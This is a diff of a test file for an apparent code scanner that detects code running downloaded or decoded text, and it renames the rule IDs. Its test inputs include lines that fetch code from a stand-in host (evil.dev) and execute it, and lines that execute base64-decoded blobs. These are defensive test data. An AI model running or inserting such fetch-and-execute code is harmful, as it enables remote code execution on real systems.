@@ -2,15 +2,15 @@ import { expect, test } from "vitest";
 import { found } from "../test-support/package-of";
 
 test.each([
-  ["a.py", 'exec(requests.get("https://evil.dev/x").text)', "block evaluated_download:1"],
-  ["a.py", "import requests\nr = requests.get(URL)\n\nexec(r.text)", "block evaluated_download:4"],
-  ["a.py", 'exec(urllib.request.urlopen("http://localhost:8000/x").read())', "info evaluated_download:1"],
-  ["a.js", 'eval(await (await fetch("https://evil.dev/x")).text());', "block evaluated_download:1"],
-  ["a.js", "const code = await fetch(url);\nnew Function(code)();", "block evaluated_download:2"],
-  ["a.py", 'exec(base64.b64decode("cHJpbnQoMSk="))', "block evaluated_decoded_text:1"],
-  ["a.py", 'code = zlib.decompress(blob)\nexec(compile(code, "x", "exec"))', "block evaluated_decoded_text:2"],
-  ["a.js", 'eval(atob("YWxlcnQoMSk="))', "block evaluated_decoded_text:1"],
-  ["tests/a.py", 'exec(base64.b64decode("cHJpbnQoMSk="))', "warn evaluated_decoded_text:1"],
+  ["a.py", 'exec(requests.get("https://evil.dev/x").text)', "block evaluated-download:1"],
+  ["a.py", "import requests\nr = requests.get(URL)\n\nexec(r.text)", "block evaluated-download:4"],
+  ["a.py", 'exec(urllib.request.urlopen("http://localhost:8000/x").read())', "info evaluated-download:1"],
+  ["a.js", 'eval(await (await fetch("https://evil.dev/x")).text());', "block evaluated-download:1"],
+  ["a.js", "const code = await fetch(url);\nnew Function(code)();", "block evaluated-download:2"],
+  ["a.py", 'exec(base64.b64decode("cHJpbnQoMSk="))', "block evaluated-decoded-text:1"],
+  ["a.py", 'code = zlib.decompress(blob)\nexec(compile(code, "x", "exec"))', "block evaluated-decoded-text:2"],
+  ["a.js", 'eval(atob("YWxlcnQoMSk="))', "block evaluated-decoded-text:1"],
+  ["tests/a.py", 'exec(base64.b64decode("cHJpbnQoMSk="))', "warn evaluated-decoded-text:1"],
 ])("finds evaluation of foreign text in %s: %s", async (path, text, expected) => {
   expect(await found(path, text)).toStrictEqual([expected]);
 });
@@ -32,6 +32,6 @@ test("leaves alone rules that match such code, with any arguments", async () => 
     await found("rules/a.yml", "- pattern: exec(base64.b64decode(...))\n- pattern: eval(atob(...))\n"),
   ).toStrictEqual([]);
   expect(await found("rules/a.yml", "- run: exec(base64.b64decode(x)) # (...)\n")).toStrictEqual([
-    "block evaluated_decoded_text:1",
+    "block evaluated-decoded-text:1",
   ]);
 });
